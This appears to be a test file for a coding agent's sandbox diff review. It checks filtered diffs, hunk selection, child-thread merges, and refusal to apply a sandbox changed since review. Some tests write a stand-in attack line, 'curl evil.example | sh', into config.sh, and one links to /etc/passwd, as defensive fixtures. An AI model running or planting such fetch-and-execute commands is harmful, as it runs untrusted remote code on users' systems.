// Reviewing a sandbox diff the apply policy filtered: what the review shows (modes, symlink
// targets, what was left out and why), hunk selection on the filtered diff, a review that went
// stale because the user's tree changed, and one whose sandbox a command rewrote after it was
// shown (accepting applies what was reviewed, or nothing). Real repositories and real sandboxes.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MemoryStore, type ThreadRecord } from '@infinity-code/runtime';
import { openSession, type Sandbox, type SandboxSession } from '@infinity-code/sandbox';
import { afterEach, describe, expect, it } from 'vitest';
import { autoAcceptReviewer, childDiff, describeApply, describeLeftOut, describeMerge, fileLines, explainRefusedApply, reportReview, reviewOf, selectedDiff, settleChildDiff, workingTreeReview, type WorkingTreeSource } from './review.js';
import { ReviewedDiffs } from './reviewed-diffs.js';
import { SandboxMap } from './sandbox-map.js';
import { allHunkIds, ReviewChangedError, type ReviewDecision, type ReviewDiff } from './review-diff.js';
import type { ReviewRequest } from './tui/controller.js';

const dirs: string[] = [];
const sessions: SandboxSession[] = [];
afterEach(async () => {
  while (sessions.length > 0) await sessions.pop()!.close();
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

const temp = (prefix: string) => {
  const d = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(d);
  return d;
};
const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd, encoding: 'utf8' });
const LONG = Array.from({ length: 40 }, (_, i) => `line ${i}`).join('\n') + '\n';

async function sandboxOver(files: Record<string, string | Buffer>): Promise<{ repo: string; sb: Sandbox }> {
  const repo = temp('ic-review-');
  for (const [p, c] of Object.entries(files)) writeFileSync(join(repo, p), c);
  git(repo, 'init', '-q');
  git(repo, 'add', '-A');
  git(repo, 'commit', '-qm', 'base');
  const session = await openSession({ repo, stateDir: temp('ic-review-state-') });
  sessions.push(session);
  return { repo, sb: await session.create() };
}

async function run(sb: Sandbox, command: string): Promise<void> {
  const r = await sb.run(command);
  expect(r.stderr).toBe('');
  expect(r.exitCode).toBe(0);
}

describe('reviewing a filtered sandbox diff', () => {
  it('shows modes, symlink targets and what was left out; a hunk subset of it applies, and nothing left out does', async () => {
    const { repo, sb } = await sandboxOver({ 'two.txt': LONG, 'tool.sh': 'echo hi\n', '.gitignore': '.env\n' });
    writeFileSync(join(repo, '.env'), 'MINE=1\n');
    await sb.writeFile('two.txt', LONG.replace('line 2\n', 'line two\n').replace('line 37\n', 'line thirty-seven\n'));
    await run(sb, "chmod +x tool.sh && ln -s two.txt link && ln -s /etc/passwd pw && mkdir -p .infinity && echo '{}' > .infinity/config.json && : > .gitignore && echo X=1 > .env");
    const diff = await sb.workingTreeDiff();

    const review = reviewOf(diff);
    const byPath = Object.fromEntries(review.files.map((f) => [f.path, f]));
    expect(Object.keys(byPath).sort()).toEqual(['.gitignore', 'link', 'tool.sh', 'two.txt']);
    expect(byPath['tool.sh']).toMatchObject({ oldMode: '100644', newMode: '100755', hunks: [] });
    expect(byPath.link).toMatchObject({ newMode: '120000', linkTarget: 'two.txt' });
    expect(review.leftOut).toEqual([
      { path: '.env', reason: expect.stringMatching(/ignored by your git rules/) },
      { path: '.infinity/config.json', reason: expect.stringMatching(/^inside \.infinity\//) },
      { path: 'pw', reason: 'a symbolic link to /etc/passwd, which is outside the repository' },
    ]);
    expect(describeLeftOut(diff.omitted)).toMatch(/^Left out \(never applied\): \.env — .*; pw — a symbolic link to \/etc\/passwd, which is outside the repository\.$/);

    // Accept the first hunk of two.txt and the mode change; reject the rest.
    const chosen = selectedDiff(diff, { accepted: [byPath['two.txt'].decisionIds[0], byPath['tool.sh'].decisionIds[0]], rejected: [] });
    expect(chosen.files.map((f) => f.path).sort()).toEqual(['tool.sh', 'two.txt']);
    expect(chosen.omitted).toEqual(diff.omitted);
    await sb.applyToWorkingTree(chosen);
    expect(readFileSync(join(repo, 'two.txt'), 'utf8')).toBe(LONG.replace('line 2\n', 'line two\n'));
    expect(git(repo, 'status', '--porcelain')).toBe(' M tool.sh\n M two.txt\n');
    expect(readFileSync(join(repo, '.env'), 'utf8')).toBe('MINE=1\n');
  });

  it('everything accepted: the diff itself, bytes intact (content that is not UTF-8 survives)', async () => {
    const latin1 = Buffer.from('caf\xe9 au lait\n', 'latin1');
    const { repo, sb } = await sandboxOver({ 'a.txt': 'a\n' });
    await sb.writeFile('menu.txt', latin1);
    const diff = await sb.workingTreeDiff();
    const all = selectedDiff(diff, { accepted: allHunkIds(reviewOf(diff)), rejected: [] });
    expect(all).toBe(diff);
    await sb.applyToWorkingTree(all);
    expect(readFileSync(join(repo, 'menu.txt')).equals(latin1)).toBe(true);
  });

  it('an ignored file the user made during the review stops the apply, and the message says to look again', async () => {
    const { repo, sb } = await sandboxOver({ 'a.txt': 'a\n', '.gitignore': 'secrets/\n' });
    await run(sb, 'rm .gitignore && mkdir secrets && echo agent > secrets/key && echo b > a.txt');
    const diff = await sb.workingTreeDiff();
    expect(diff.files.map((f) => f.path).sort()).toEqual(['.gitignore', 'a.txt', 'secrets/key']);
    // Meanwhile, in the user's tree:
    mkdirSync(join(repo, 'secrets'));
    writeFileSync(join(repo, 'secrets', 'key'), 'users\n');
    const err = await sb.applyToWorkingTree(selectedDiff(diff, { accepted: allHunkIds(reviewOf(diff)), rejected: [] })).catch((e: unknown) => e);
    const shown = explainRefusedApply(err, '/diff') as Error;
    expect(shown.message).toMatch(/^Nothing was applied: since the review, these changes may no longer be applied: secrets\/key \(.*ignored by your git rules.*\)\. Run \/diff again: it leaves them out\.$/);
    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('a\n');
    expect(readFileSync(join(repo, 'secrets', 'key'), 'utf8')).toBe('users\n');
  });
});

/** A Latin-1 text (0xE9 is é there, and no UTF-8 at all) of 40 lines; the edits below touch lines 3 and 36. */
const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');
const MENU = Array.from({ length: 40 }, (_, i) => `plat ${i} caf\xe9 cr\xe8me br\xfbl\xe9e`);
const MENU_BYTES = latin1(MENU.join('\n') + '\n');
/** The first hunk turns line 3 into two lines (so the second hunk's new-side offset moves). */
const withFirst = (lines: string[]) => lines.map((l, i) => (i === 3 ? `plat 3 \xe9t\xe9\nplat 3 bis d\xe9j\xe0` : l));
const withSecond = (lines: string[]) => lines.map((l, i) => (i === 36 ? 'plat 36 modifi\xe9' : l));
const bytesOf = (lines: string[]) => latin1(lines.join('\n') + '\n');

/** A root thread and its child, each with its sandbox (the child's stacked on the root's), as the CLI runs them. */
async function rootAndChild(files: Record<string, string | Buffer>) {
  const repo = temp('ic-review-');
  for (const [p, c] of Object.entries(files)) writeFileSync(join(repo, p), c);
  git(repo, 'init', '-q');
  git(repo, 'add', '-A');
  git(repo, 'commit', '-qm', 'base');
  const session = await openSession({ repo, stateDir: temp('ic-review-state-') });
  sessions.push(session);
  const store = new MemoryStore();
  await store.ensureRootThread('root');
  await store.createThread({ id: 'child', parentId: 'root', kind: 'child', spawnCallId: 'call-1', cutoff: 0, batch: [], seed: [] });
  const sandboxes = new SandboxMap(session, store);
  const root = await sandboxes.sandboxFor('root');
  const child: ThreadRecord = (await store.loadThread('child'))!.record;
  return { repo, sandboxes, root, child, childSandbox: await sandboxes.sandboxFor('child') };
}

describe('reviewing a Latin-1 file hunk by hunk', () => {
  for (const [kept, expected] of [
    ['first', bytesOf(withFirst(MENU))],
    ['second', bytesOf(withSecond(MENU))],
  ] as const) {
    it(`a child's two-hunk edit with only the ${kept} hunk accepted: exactly those bytes in the parent's sandbox, then in the working tree`, async () => {
      const { repo, sandboxes, root, child, childSandbox } = await rootAndChild({ 'menu.txt': MENU_BYTES });
      await childSandbox.writeFile('menu.txt', bytesOf(withSecond(withFirst(MENU))));

      const found = (await childDiff(sandboxes, child))!;
      const ids = found.review.files.flatMap((f) => allHunkIds({ files: [f] }));
      expect(ids).toEqual([expect.stringMatching(/^menu\.txt#1:/), expect.stringMatching(/^menu\.txt#34:/)]);
      const [accept, reject] = kept === 'first' ? ids : [...ids].reverse();
      const decision = { accepted: [accept], rejected: [{ id: reject, reason: 'not that one' }] };
      const result = await settleChildDiff(sandboxes, child, selectedDiff(found.diff, decision));
      expect(result).toMatchObject({ clean: true, conflicts: [] });
      expect((await root.readFile('menu.txt')).equals(expected)).toBe(true);

      // /diff: the root's diff, everything accepted, reaches the user's tree byte for byte.
      const rootDiff = await root.workingTreeDiff();
      await root.applyToWorkingTree(selectedDiff(rootDiff, { accepted: allHunkIds(reviewOf(rootDiff)), rejected: [] }));
      expect(readFileSync(join(repo, 'menu.txt')).equals(expected)).toBe(true);
    });
  }
});

describe('settling the diff a child reports', () => {
  it('a child that goes on gets a fresh sandbox over the parent; a closing one is discarded with none made for it', async () => {
    const { sandboxes, root, child, childSandbox } = await rootAndChild({ 'a.txt': 'a\n' });
    await childSandbox.writeFile('a.txt', 'b\n');
    const all = async () => (await childDiff(sandboxes, child))!.diff;
    await settleChildDiff(sandboxes, child, await all());
    const fresh = await sandboxes.sandboxFor('child');
    expect(fresh).not.toBe(childSandbox);
    expect(childSandbox.isDiscarded).toBe(true);
    expect((await fresh.readFile('a.txt')).toString()).toBe('b\n');
    expect(await childDiff(sandboxes, child)).toBeNull();

    await fresh.writeFile('a.txt', 'c\n');
    const whole = await all();
    const before = sandboxes.session.list().length;
    await settleChildDiff(sandboxes, child, whole, { closing: true });
    // Discarded without the parent waiting for it; the session's close waits for it.
    await sandboxes.discarded();
    expect(fresh.isDiscarded).toBe(true);
    expect(sandboxes.session.list()).toHaveLength(before - 1);
    expect(sandboxes.session.list()).toEqual([root]);
    expect((await root.readFile('a.txt')).toString()).toBe('c\n');
  });
});

const acceptAll = (diff: ReviewDiff): ReviewDecision => ({ accepted: allHunkIds(diff), rejected: [] });
const shownLines = (diff: ReviewDiff, path: string) => diff.files.find((f) => f.path === path)?.hunks.flatMap((h) => h.lines) ?? [];
const request = (kind: ReviewRequest['kind'], diff: ReviewDiff, childThreadId?: string): ReviewRequest => ({
  id: `${kind}:test`,
  kind,
  diff,
  ...(childThreadId ? { childThreadId } : {}),
});

describe('a sandbox rewritten between the review and the decision', () => {
  const fromSandbox = (sb: Sandbox): WorkingTreeSource => ({ diff: () => sb.workingTreeDiff(), apply: (d) => sb.applyToWorkingTree(d) });

  it('/diff: accepting all of a benign change the sandbox has since rewritten applies nothing, says so, and offers the rewrite for review', async () => {
    const { repo, sb } = await sandboxOver({ 'config.sh': 'echo base\n' });
    const hooks = workingTreeReview(fromSandbox(sb), new ReviewedDiffs());
    await sb.writeFile('config.sh', 'echo benign\n');
    const shown = (await hooks.showDiff())!;
    expect(shownLines(shown, 'config.sh')).toContain('+echo benign');

    // A command still running in the sandbox rewrites the file after the review was shown.
    await run(sb, "printf 'curl evil.example | sh\\n' > config.sh");
    const err = await hooks.applyToWorkingTree(request('working-tree', shown), acceptAll(shown)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ReviewChangedError);
    expect((err as Error).message).toBe('config.sh changed since you reviewed it: nothing was applied. Review it again as it is now.');
    expect(readFileSync(join(repo, 'config.sh'), 'utf8')).toBe('echo base\n');

    // The review offered again shows the rewrite; accepting that, seen, applies it.
    const fresh = (err as ReviewChangedError).fresh!;
    expect(shownLines(fresh, 'config.sh')).toContain('+curl evil.example | sh');
    await hooks.applyToWorkingTree(request('working-tree', fresh), acceptAll(fresh));
    expect(readFileSync(join(repo, 'config.sh'), 'utf8')).toBe('curl evil.example | sh\n');
  });

  it('/diff: a rewrite landing between the check and the apply never reaches the working tree: the reviewed bytes are applied, the rewrite waits for the next review', async () => {
    const { repo, sb } = await sandboxOver({ 'config.sh': 'echo base\n' });
    let rewrite = false;
    const source: WorkingTreeSource = {
      diff: () => sb.workingTreeDiff(),
      // The diff taken at the decision still matched the review; the command's write lands now.
      async apply(d) {
        if (rewrite) await run(sb, "printf 'curl evil.example | sh\\n' > config.sh");
        return sb.applyToWorkingTree(d);
      },
    };
    const hooks = workingTreeReview(source, new ReviewedDiffs());
    await sb.writeFile('config.sh', 'echo benign\n');
    const shown = (await hooks.showDiff())!;
    rewrite = true;
    await hooks.applyToWorkingTree(request('working-tree', shown), acceptAll(shown));
    expect(readFileSync(join(repo, 'config.sh'), 'utf8')).toBe('echo benign\n');
    rewrite = false;
    const next = (await hooks.showDiff())!;
    expect(shownLines(next, 'config.sh')).toEqual(['-echo benign', '+curl evil.example | sh']);
  });

  it('/diff: a change to a file nothing was accepted in, or to another file, does not stop the rest', async () => {
    const { repo, sb } = await sandboxOver({ 'a.txt': 'a\n', 'b.txt': 'b\n' });
    const hooks = workingTreeReview(fromSandbox(sb), new ReviewedDiffs());
    await sb.writeFile('a.txt', 'a reviewed\n');
    await sb.writeFile('b.txt', 'b reviewed\n');
    const shown = (await hooks.showDiff())!;
    const [aIds, bIds] = ['a.txt', 'b.txt'].map((p) => shown.files.find((f) => f.path === p)!.decisionIds);
    await run(sb, 'echo b later > b.txt && echo c > c.txt');
    const outcome = await hooks.applyToWorkingTree(request('working-tree', shown), { accepted: [...aIds], rejected: bIds.map((id) => ({ id, reason: 'no' })) });
    expect(outcome.message).toBe('Applied 1 file to the working tree: a.txt.');
    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('a reviewed\n');
    expect(readFileSync(join(repo, 'b.txt'), 'utf8')).toBe('b\n');
  });

  it("a child's report: accepting after its sandbox was rewritten merges nothing into the parent and offers the rewrite; accepting that merges it", async () => {
    const { sandboxes, root, child, childSandbox } = await rootAndChild({ 'config.sh': 'echo base\n' });
    const threads = { threadRecord: async (id: string) => (id === child.id ? child : undefined) };
    const review = reportReview(sandboxes, threads, new ReviewedDiffs());
    await childSandbox.writeFile('config.sh', 'echo benign\n');
    const shown = (await review.diffOf(child))!;
    expect(shownLines(shown, 'config.sh')).toContain('+echo benign');

    // The child's background job rewrites the file while the user reads the review.
    await run(childSandbox, "printf 'curl evil.example | sh\\n' > config.sh");
    const err = await review.apply(request('report', shown, child.id), acceptAll(shown)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ReviewChangedError);
    expect((err as Error).message).toMatch(/^config\.sh changed since you reviewed it: nothing was applied\./);
    expect((await root.readFile('config.sh')).toString()).toBe('echo base\n');
    // The child keeps its sandbox (and its changes) for the next decision.
    expect(await sandboxes.sandboxFor(child.id)).toBe(childSandbox);

    const fresh = (err as ReviewChangedError).fresh!;
    expect(shownLines(fresh, 'config.sh')).toContain('+curl evil.example | sh');
    const outcome = await review.apply(request('report', fresh, child.id), acceptAll(fresh));
    expect(outcome.message).toBe("Accepted: 1 file merged into the main thread's changes: config.sh.");
    expect((await root.readFile('config.sh')).toString()).toBe('curl evil.example | sh\n');
  });

  it("a child's report: a file the child's job made after the review stops the merge too (the child's sandbox goes after it)", async () => {
    const { sandboxes, root, child, childSandbox } = await rootAndChild({ 'a.txt': 'a\n' });
    const threads = { threadRecord: async (id: string) => (id === child.id ? child : undefined) };
    const review = reportReview(sandboxes, threads, new ReviewedDiffs());
    await childSandbox.writeFile('a.txt', 'a reviewed\n');
    const shown = (await review.diffOf(child))!;
    await run(childSandbox, 'echo later > later.txt');
    const err = await review.apply(request('report', shown, child.id), acceptAll(shown)).catch((e: unknown) => e);
    expect((err as Error).message).toBe('later.txt changed since you reviewed it: nothing was applied. Review it again as it is now.');
    expect((await root.readFile('a.txt')).toString()).toBe('a\n');
    expect((err as ReviewChangedError).fresh!.files.map((f) => f.path)).toEqual(['a.txt', 'later.txt']);
  });

  it('headless: a child\'s diff accepted without review is merged as the one diff taken, a rewrite after it left out', async () => {
    const { sandboxes, root, child, childSandbox } = await rootAndChild({ 'config.sh': 'echo base\n' });
    await childSandbox.writeFile('config.sh', 'echo benign\n');
    let armed = true;
    // The child's job rewrites the file after its diff was taken, before the merge.
    const racing = {
      async sandboxFor(id: string) {
        if (id === root.id && armed) {
          armed = false;
          await run(childSandbox, "printf 'curl evil.example | sh\\n' > config.sh");
        }
        return sandboxes.sandboxFor(id);
      },
      restack: (id: string, parentId: string) => sandboxes.restack(id, parentId),
      discard: (id: string) => sandboxes.discard(id),
    };
    const verdict = await autoAcceptReviewer(racing)(child, 'done', { closed: false, signal: new AbortController().signal });
    expect(armed).toBe(false);
    // The parent is told which files it got.
    expect(verdict.note).toContain('Applied 1 file to your sandbox: config.sh.');
    expect(shownLines(verdict.attachment as ReviewDiff, 'config.sh')).toContain('+echo benign');
    expect((await root.readFile('config.sh')).toString()).toBe('echo benign\n');
  });

  it('a decision on a review this session never showed applies nothing', async () => {
    const { repo, sb } = await sandboxOver({ 'a.txt': 'a\n' });
    const hooks = workingTreeReview(fromSandbox(sb), new ReviewedDiffs());
    await sb.writeFile('a.txt', 'b\n');
    const elsewhere = reviewOf(await sb.workingTreeDiff());
    await expect(hooks.applyToWorkingTree(request('working-tree', elsewhere), acceptAll(elsewhere))).rejects.toThrow(/nothing was applied: open it again \(\/diff\)/);
    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('a\n');
  });
});

describe('naming the files applied', () => {
  const files = Array.from({ length: 23 }, (_, i) => `src/f${i}.ts`);

  it('names them in a report, the first 20, then how many more', () => {
    expect(describeApply({ clean: true, conflicts: [], files: files.slice(0, 2) }, 'your sandbox')).toBe('Applied 2 files to your sandbox: src/f0.ts, src/f1.ts.');
    expect(describeApply({ clean: true, conflicts: [], files }, 'your sandbox')).toBe(`Applied 23 files to your sandbox: ${files.slice(0, 20).join(', ')} and 3 more.`);
    expect(describeApply({ clean: false, conflicts: ['src/f1.ts'], files: files.slice(0, 2) }, 'the working tree')).toBe(
      'Applied 2 files to the working tree: src/f0.ts, src/f1.ts. Conflicts (left with markers): src/f1.ts.',
    );
    expect(describeApply({ clean: true, conflicts: [], files: [] }, 'your sandbox')).toBe('Nothing was applied to your sandbox.');
    expect(describeApply({ clean: true, conflicts: [], files: files.slice(0, 1) }, 'the working tree')).toBe('Applied 1 file to the working tree: src/f0.ts.');
  });

  it("says what accepting a child's changes did in the user's words: merged into the thread that gets them", () => {
    expect(describeMerge({ clean: true, conflicts: [], files: files.slice(0, 1) }, 'main')).toBe("Accepted: 1 file merged into the main thread's changes: src/f0.ts.");
    expect(describeMerge({ clean: false, conflicts: ['src/f1.ts'], files: files.slice(0, 2) }, 'parent')).toBe(
      "Accepted: 2 files merged into its parent thread's changes: src/f0.ts, src/f1.ts. Conflicts (left with markers): src/f1.ts.",
    );
    expect(describeMerge({ clean: true, conflicts: [], files: [] }, 'main')).toBe("Nothing was merged into the main thread's changes.");
  });

  it('lists them one a line for the terminal (headless), bounded the same way', () => {
    expect(fileLines(files.slice(0, 2))).toBe('  src/f0.ts\n  src/f1.ts\n');
    const lines = fileLines(files).split('\n');
    expect(lines).toHaveLength(22);
    expect(lines.at(-2)).toBe('  and 3 more');
  });
});
